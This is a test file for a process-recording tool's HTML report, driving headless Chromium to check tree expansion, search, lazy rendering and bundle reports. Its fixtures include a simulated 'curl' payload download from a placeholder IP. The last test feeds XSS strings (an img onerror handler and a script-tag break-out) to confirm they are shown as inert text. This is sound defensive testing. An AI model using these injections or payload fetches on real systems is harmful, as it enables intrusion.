/**
 * The HTML report in a real browser: Debian's Chromium driven by
 * playwright-core (never a downloaded browser). Opens the report of a
 * recording from a file:// URL, expands a node, searches for an image,
 * checks what is shown, asserts that no network request was made, and saves
 * a screenshot to test-artifacts/report.png. Also opens a report of 100,000
 * processes and checks that only the rows in view are in the page.
 *
 * Not skipped: scripts/setup.sh installs chromium; without it this fails.
 */
import { quoteArg } from "../cli/analysis/mod.ts";
import "../cli/bundle/_zip.ts"; // zip.js without web workers
import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from "@zip.js/zip.js";
import { type BrowserContext, chromium, type Page } from "playwright-core";
import {
  fixtureRecordings,
  incidentEvents,
  inTempDir,
  procrec,
  writeIncident,
  writeLarge,
} from "./_bundle_helpers.ts";
import { assert, assertEquals } from "./_record_helpers.ts";

const CHROMIUM = "/usr/bin/chromium";
const ROOT = new URL("..", import.meta.url).pathname;

/** Opens `html` in a fresh headless Chromium; records every request and page error. */
async function withPage(
  html: string,
  fn: (page: Page, requests: string[], errors: string[]) => Promise<void>,
): Promise<void> {
  try {
    await Deno.stat(CHROMIUM);
  } catch {
    throw new Error(
      `${CHROMIUM} is missing: install Debian's chromium (scripts/setup.sh does)`,
    );
  }
  const profile = await Deno.makeTempDir({ prefix: "procrec-chromium-" });
  let ctx: BrowserContext | undefined;
  try {
    ctx = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM,
      headless: true,
      viewport: { width: 1400, height: 800 },
      args: [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
      ],
    });
    const requests: string[] = [];
    const errors: string[] = [];
    ctx.on("request", (r) => requests.push(r.url()));
    const page = ctx.pages()[0] ?? await ctx.newPage();
    page.setDefaultTimeout(120_000); // a loaded CI machine is slow, not wrong
    page.on("pageerror", (e) => errors.push(e.message));
    page.on("console", (m) => {
      if (m.type() === "error") errors.push(m.text());
    });
    await page.goto(`file://${html}`);
    await page.waitForSelector("body[data-ready='1']", { timeout: 120_000 });
    await fn(page, requests, errors);
  } finally {
    await ctx?.close();
    await Deno.remove(profile, { recursive: true });
  }
}

/** The commands of the rows in the DOM, top to bottom. */
async function rowCommands(page: Page): Promise<string[]> {
  return await page.$$eval(".row", (rows) =>
    rows
      .sort((a, b) => parseInt(a.style.top) - parseInt(b.style.top))
      .map((r) => r.querySelector(".cmd")!.textContent!));
}

/** Waits until the match counter shows `text`. */
async function waitMatches(page: Page, text: string): Promise<void> {
  await page.locator("#matches", { hasText: text }).waitFor();
}

function row(page: Page, command: string | RegExp) {
  return page.locator(".row", {
    has: page.locator(".cmd", { hasText: command }),
  });
}

Deno.test("report: the tree expands, search finds an image, the timeline colours exits, no network", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/incident.cbor`);
    const r = await procrec(["report", "incident.cbor", "-o", "report.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    const html = `${dir}/report.html`;
    await withPage(html, async (page, requests, errors) => {
      // metadata
      const meta = await page.textContent("#meta");
      for (
        const s of [
          "testhost",
          "6.18.0-test",
          "00000000-0000-4000-8000-000000000001",
          "2026-09-21T14:13:20.000000000Z",
          "complete, chain intact",
          "ring_full 5 in 1 spans",
        ]
      ) assert(meta!.includes(s), `metadata shows ${s}: ${meta}`);
      // small trees open fully
      assertEquals(await page.textContent("#shown"), "9 of 9 processes shown");

      // collapse everything, then expand node by node
      await page.click("#collapseall");
      assertEquals(await rowCommands(page), ["/sbin/init"]);
      await row(page, "/sbin/init").locator(".toggle").click();
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
      ]);
      await row(page, "sh -c incident.sh").locator(".toggle").click();
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
        "ls /",
        "ls /",
        "ls /",
        "sh",
        "python3 -c 'serve()'",
        "curl -s http://198.51.100.7/payload",
      ]);
      assertEquals(
        await row(page, "sh -c incident.sh").locator(".toggle").textContent(),
        "\u25BE",
      );
      assertEquals(
        await row(page, /^sh$/).locator(".toggle")
          .textContent(),
        "\u25B8",
        "the subshell is still collapsed",
      );

      // search by image: the collapsed subshell opens to show sleep
      await page.click("#collapseall");
      await page.fill("#search", "/usr/bin/sleep");
      await page.press("#search", "Enter");
      await waitMatches(page, "/ 1");
      assertEquals(await page.textContent("#matches"), "1 / 1 matches");
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
        "ls /",
        "ls /",
        "ls /",
        "sh",
        "sleep 0.2",
        "python3 -c 'serve()'",
        "curl -s http://198.51.100.7/payload",
      ]);
      const hit = row(page, "sleep 0.2");
      assert(
        /\bmatch\b/.test((await hit.getAttribute("class"))!),
        "the match is highlighted",
      );
      const details = await page.textContent("#details");
      assert(
        details!.includes("/usr/bin/sleep") && details!.includes("pid: 105"),
        `details: ${details}`,
      );

      // search by argv
      await page.fill("#search", "payload");
      await page.press("#search", "Enter");
      await page.locator(".row.sel .cmd", { hasText: "payload" }).waitFor();
      assertEquals(await page.textContent("#matches"), "1 / 1 matches");
      assert(
        (await page.textContent("#details"))!.includes("exit 7"),
        "curl failed with 7",
      );

      // timeline: exit status by colour, lost span on every timeline cell
      const bar = async (cmd: string) =>
        (await row(page, cmd).locator(".bar").getAttribute("class"))!;
      assertEquals(await bar("curl -s"), "bar c1", "failed: red");
      assertEquals(await bar("python3"), "bar c2", "killed: purple");
      assertEquals(await bar("sleep 0.2"), "bar c0", "exit 0: green");
      assertEquals(await bar("/sbin/init"), "bar c3", "still running");
      const bg = await row(page, "python3").locator(".tl").getAttribute(
        "style",
      );
      assert(bg!.includes("linear-gradient"), `lost band: ${bg}`);
      assert(
        /\blostflag\b/.test(
          (await row(page, "python3").getAttribute("class"))!,
        ),
        "python3 overlaps the lost span",
      );
      assert(
        (await page.textContent("#lostlist"))!.includes(
          "lost 5 events (ring_full)",
        ),
        "lost spans listed",
      );

      await Deno.mkdir(`${ROOT}test-artifacts`, { recursive: true });
      await page.screenshot({ path: `${ROOT}test-artifacts/report.png` });
      assertEquals(errors, [], "no page errors");
      assertEquals(
        requests,
        [`file://${html}`],
        "the report loads nothing but itself",
      );
    });
  });
});

Deno.test("report: 100,000 processes render lazily, and search still finds one", async () => {
  await inTempDir(async (dir) => {
    await writeLarge(`${dir}/large.cbor`, 100_000);
    const r = await procrec(["report", "large.cbor", "-o", "large.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/large.html`, async (page, requests, errors) => {
      assertEquals(
        await page.textContent("#shown"),
        "101 of 100101 processes shown",
      );
      await page.click("#expandall");
      assertEquals(
        await page.textContent("#shown"),
        "100101 of 100101 processes shown",
      );
      const inDom = await page.locator(".row").count();
      assert(inDom > 10 && inDom < 200, `${inDom} rows in the DOM`);
      await page.click("#collapseall");
      await page.fill("#search", "job-99999.c");
      await page.press("#search", "Enter");
      await row(page, "cc -c job-99999.c").waitFor();
      assertEquals(await page.textContent("#matches"), "1 / 1 matches");
      assertEquals(
        await page.textContent("#shown"),
        "1101 of 100101 processes shown",
        "only the path to the match opened: sh, 100 makes, part-99's 1000 jobs",
      );
      await page.fill("#search", "/usr/bin/make");
      await page.press("#search", "Enter");
      await page.locator("#matches", { hasText: "1 / 100 matches" }).waitFor();
      assert((await page.locator(".row").count()) < 200, "still lazy");
      // the last row can be scrolled to
      await page.click("#expandall");
      await page.locator("#viewport").evaluate(
        (v: { scrollTop: number; scrollHeight: number }) => {
          v.scrollTop = v.scrollHeight;
        },
      );
      await row(page, "cc -c job-99999.c").waitFor();
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/large.html`], "no network");
    });
  });
});

Deno.test("report: a bundle's report (written by report, and inside the bundle) holds each recording", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/first.cbor`);
    await writeIncident(
      `${dir}/second.cbor`,
      incidentEvents(1).filter((e) => e.pid !== 104 && e.pid !== 105),
    );
    const b = await procrec([
      "bundle",
      "create",
      "-o",
      "case.zip",
      "first.cbor",
      "second.cbor",
      "--case",
      "IR-9",
    ], { cwd: dir });
    assertEquals(b.code, 0, b.stderr);
    const r = await procrec(["report", "case.zip", "-o", "case.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    // the report procrec report writes, and the one inside the bundle
    const zip = new ZipReader(
      new Uint8ArrayReader(await Deno.readFile(`${dir}/case.zip`)),
    );
    for (const e of await zip.getEntries()) {
      if (e.filename === "report.html" && !e.directory) {
        await Deno.writeFile(
          `${dir}/inside.html`,
          await e.getData(new Uint8ArrayWriter()),
        );
      }
    }
    await zip.close();
    for (const html of ["case.html", "inside.html"]) {
      await withPage(`${dir}/${html}`, async (page, requests, errors) => {
        const meta = await page.textContent("#meta");
        assert(meta!.includes("IR-9") && meta!.includes("first.cbor"), meta!);
        assertEquals(
          await page.textContent("#shown"),
          "9 of 9 processes shown",
        );
        await page.selectOption("#recording", { label: "second.cbor" });
        assertEquals(
          await page.textContent("#shown"),
          "7 of 7 processes shown",
        );
        assert(
          (await page.textContent("#meta"))!.includes("second.cbor"),
          "switched",
        );
        await row(page, "203.0.113.9").waitFor();
        assertEquals(errors, [], "no page errors");
        assertEquals(requests, [`file://${dir}/${html}`], "no network");
      });
    }
  });
});

Deno.test("report: every golden fixture shows all its processes; a Windows image is found", async () => {
  const FIX = `${ROOT}fixtures/`;
  const names = await fixtureRecordings();
  assert(names.length >= 8, `fixtures/ holds ${names.length} recordings`);
  await inTempDir(async (dir) => {
    const b = await procrec([
      "bundle",
      "create",
      "-o",
      `${dir}/fixtures.zip`,
      ...names.map((n) => FIX + n),
    ]);
    assertEquals(b.code, 0, b.stderr);
    const r = await procrec([
      "report",
      `${dir}/fixtures.zip`,
      "-o",
      `${dir}/f.html`,
    ]);
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/f.html`, async (page, requests, errors) => {
      for (const n of names) {
        const tree = await Deno.readTextFile(
          FIX + n.replace(/\.cbor$/, ".tree.txt"),
        );
        const count = tree.trimEnd().split("\n").length;
        await page.selectOption("#recording", { label: n });
        assertEquals(
          await page.textContent("#shown"),
          `${count} of ${count} processes shown`,
          n,
        );
        assertEquals(await page.locator(".row").count(), count, n);
      }
      await page.selectOption("#recording", { label: "windows.cbor" });
      await page.fill("#search", "rundll32");
      await page.press("#search", "Enter");
      await page.locator(".row.sel .cmd", { hasText: "rundll32" }).waitFor();
      assert(
        (await page.textContent("#details"))!.includes(
          "parent-differs-from-creator",
        ),
        "the spoofed parent is flagged",
      );
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/f.html`], "no network");
    });
  });
});

Deno.test("report: hostile argv and image names are shown as text, never run or fetched", async () => {
  const evil = [
    `<img src="http://192.0.2.1/pixel.png" onerror="document.title='pwned'">`,
    `</script><script>document.title='pwned'</script>`,
    "\u2028line\u2029separators",
  ];
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/evil.cbor`, [
      {
        kind: "process_create",
        t: 1000,
        pid: 66,
        tid: 66,
        ppid: 1,
        ptid: 1,
        creatorPid: 1,
        creatorTid: 1,
        start: 1000,
        info: {
          image: `/tmp/<b>x</b>`,
          argv: ["sh", ...evil],
          from: { image: "kernel", argv: "kernel" },
        },
      },
    ]);
    const r = await procrec(["report", "evil.cbor", "-o", "evil.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/evil.html`, async (page, requests, errors) => {
      let dialogs = 0;
      page.on("dialog", () => dialogs++);
      assertEquals(await page.title(), "procrec report: evil.cbor");
      // the command as the tree shows it: each argument quoted for a shell
      assertEquals(await rowCommands(page), [
        ["sh", ...evil].map(quoteArg).join(" "),
      ]);
      assertEquals(
        await page.locator(".row img, .row b, .row script").count(),
        0,
      );
      await page.fill("#search", "<b>x</b>");
      await page.press("#search", "Enter");
      await waitMatches(page, "1 / 1 matches");
      assertEquals(dialogs, 0);
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/evil.html`], "nothing fetched");
    });
  });
});
